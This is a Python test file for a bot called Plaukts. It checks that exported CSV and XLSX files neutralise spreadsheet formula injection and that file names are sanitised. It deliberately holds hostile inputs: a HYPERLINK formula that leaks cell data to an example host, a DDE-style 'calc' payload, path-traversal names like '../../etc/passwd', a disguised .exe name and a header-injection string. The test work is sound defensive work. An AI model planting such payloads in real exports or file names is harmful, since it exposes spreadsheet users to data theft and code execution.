"""No cell of any file that Plaukts writes is a formula, unless it is one of our own, whatever people are called."""

import csv
import re
import zipfile
from dataclasses import replace
from datetime import date
from io import BytesIO, StringIO
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select
from sqlalchemy.orm import Session

from bot.features.audit.lines import as_csv
from bot.features.events.signing import Sheet, write_sheet
from bot.features.members.columns import PersonRow
from bot.features.members.importing import Fate, MembersPlan, Planned
from bot.features.members.importing import Sheet as CodeSheet
from bot.features.members.invitations import Handout, write_csv, write_xlsx
from bot.region import Region
from bot.tables import harmless
from bot.texts import texts_for
from bot.texts.clean import clean, file_name
from storage.audit import Line
from storage.database import Database
from storage.events import Event
from storage.libraries import Library, Municipality
from storage.vocabulary import VocabularyEntry
from tests.examples import examples
from tests.features.reports.conftest import NOW, exported_from
from tests.features.reports.held import add_event, add_member
from tests.features.reports.region import add_libraries, add_record
from tests.journeys.world import RIGA

BOT = Path(__file__).parents[2] / "bot"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULA = 'HYPERLINK("http://a.example.lv/?"&A1;"x")|\' /C calc\'!A0'
WRITERS = {"features/events/signing.py", "features/members/invitations.py", "features/reports/records.py"}
WRITERS |= {"features/reports/workbook.py", "features/audit/lines.py"}


def test_every_way_out_is_tried_here() -> None:
    """Whoever writes another table has to add it to these tests."""
    opens = re.compile(r"csv\.(writer|DictWriter)|\bWorkbook\(|NamingWorkbook\(")
    found = {str(path.relative_to(BOT)) for path in BOT.rglob("*.py") if opens.search(path.read_text("utf-8"))}
    assert {one for one in found if not one.startswith("xlsx/")} == WRITERS


def cells_of(content: bytes) -> list[str]:
    """What a CSV's cells say."""
    return [cell for row in csv.reader(StringIO(content.decode("utf-8-sig")), delimiter=";") for cell in row]


def formulas_of(content: bytes) -> list[str]:
    """The formulas of a workbook, of which every part has to be whole XML, and none may lead anywhere."""
    with zipfile.ZipFile(BytesIO(content)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    trees = {name: ET.fromstring(part) for name, part in parts.items()}  # noqa: S314 - we have just written it
    assert not [name for name in parts if "externalLink" in name or "vba" in name.lower()]
    assert not [name for name, part in parts.items() if b"<hyperlink " in part or b'TargetMode="External"' in part]
    return sorted(one.text or "" for tree in trees.values() for one in tree.iter() if one.tag.endswith("}f"))


def _call_everything(session: Session, trigger: str) -> None:
    named = f"{trigger}{FORMULA}"
    for number, library in enumerate(session.scalars(select(Library)).all()):
        library.name = f"{named}{number}"
    for number, municipality in enumerate(session.scalars(select(Municipality)).all()):
        municipality.name = f"{named}{number}"
    for number, entry in enumerate(session.scalars(select(VocabularyEntry)).all()):
        entry.lv = entry.en = f"{named}{number}"
    for event in session.scalars(select(Event)):
        event.title = event.place = event.lecturers = named


@pytest.mark.parametrize("database_kind", ["sqlite"])
def test_reports(database: Database) -> None:
    """CSV, workbook and the one for publication, where everything that people name begins like a formula."""

    def fill(session: Session) -> None:
        add_libraries(session)
        libraries = [one.name for one in session.scalars(select(Library).limit(3))]
        add_record(session, date(2026, 10, 5), *libraries)
        add_member(session, "Bibliotekāre, Renda", libraries[0])
        add_event(session, date(2026, 10, 6), "Bibliotekāre, Renda", guests=("Viesis",))

    def call_everything(trigger: str) -> None:
        database.submit(lambda session: _call_everything(session, trigger)).result()

    database.submit(fill).result()

    def export(chosen: str) -> bytes:
        with database.read() as session:
            return exported_from(session, "2026-10", chosen, region=f"={FORMULA}")

    ours = {chosen: formulas_of(export(chosen)) for chosen in ("xlsx", "public")}
    call_everything("=")
    for chosen, formulas in ours.items():
        assert formulas_of(export(chosen)) == formulas
    assert any(FORMULA in cell for cell in cells_of(export("csv")))
    library, region = Line(1, NOW, None, "rename", "library", 1, {"before": f"={FORMULA}"}), Region("R", RIGA, "lv")
    for trigger in TRIGGERS[1:7:2]:
        call_everything(trigger)
        with database.read() as session:
            journal = as_csv(session, [library, replace(library, action=f"{trigger}x")], region, texts_for("lv"))
        for content in (export("csv"), journal):
            assert not [cell for cell in cells_of(content) if cell.startswith(TRIGGERS)], trigger
            assert FORMULA in content.decode().replace('""', '"')


TEXTS = st.tuples(st.sampled_from([*TRIGGERS, "", "'", " ", "\0"]), st.text(max_size=40)).map("".join)


@examples(8, thorough=2_000)
@given(TEXTS, TEXTS, TEXTS)
def test_invitations_and_lists_to_sign(name: str, library: str, title: str) -> None:
    """They hold what was imported or typed, which has been cleaned by then."""
    name, library, title = clean(name), clean(library), clean(title)
    row = Planned(PersonRow(2, name, name, library, name), Fate.NEW, name, name, (1,), code="PERSONAL22")
    plan = MembersPlan((row,), {1: library}, {1: CodeSheet("CODE222222", is_new=True)})
    handout = Handout(texts_for("lv"), plan, title, "plaukts_bot", date(2026, 12, 25), uses=5)
    for write in (write_csv, write_xlsx):
        content = BytesIO()
        write(handout, content)
        if write is write_xlsx:
            assert formulas_of(content.getvalue()) == []
        else:
            cells = cells_of(content.getvalue())
            assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
            assert harmless(name).replace("\r\n", "\n") in [cell.replace("\r\n", "\n") for cell in cells]
    signed = write_sheet(Sheet(title, [(title, library)], [(name, library)], title), texts_for("lv"))
    assert formulas_of(signed) == []


@examples(60)
@given(TEXTS)
def test_a_cell_is_harmless_and_says_what_it_said(text: str) -> None:
    cell = harmless(text)
    assert not cell.startswith(TRIGGERS)
    assert cell.removeprefix("'") == text.removeprefix("'")


NAMES = {
    "../../etc/passwd": "passwd",
    "/etc/cron.d/x": "x",
    "C:\\Windows\\System32\\calc.exe": "calc.exe",
    "..": "",
    "...hidden.": "hidden",
    "con.txt": "_con.txt",
    "LPT1": "_LPT1",
    "a\0b.pdf": "ab.pdf",
    "čeks\u202efdp.exe": "čeksfdp.exe",
    "a:b|c?.txt": "a_b_c_.txt",
    "x" * 99 + " y": "x" * 99,
    "x" * 300 + ".xlsx": "x" * 95 + ".xlsx",
    "a\r\nContent-Type: text/html.txt": "html.txt",
    "Rēķins 12. maijā.pdf": "Rēķins 12. maijā.pdf",
}


@pytest.mark.parametrize(("sent", "kept"), NAMES.items())
def test_names_of_files_lead_nowhere(sent: str, kept: str) -> None:
    assert file_name(sent) == kept


@examples(60)
@given(st.text(max_size=150) | st.sampled_from(sorted(NAMES)).flatmap(lambda one: st.text(max_size=5).map(one.__add__)))
def test_any_name_of_a_file_is_one_that_can_be_kept(sent: str) -> None:
    kept = file_name(sent)
    assert file_name(kept) == kept
    assert len(kept) <= 101
    assert not re.search(r'[/\\<>:"|?*\x00-\x1f\u202a-\u202e]|^\.|[. ]$', kept)
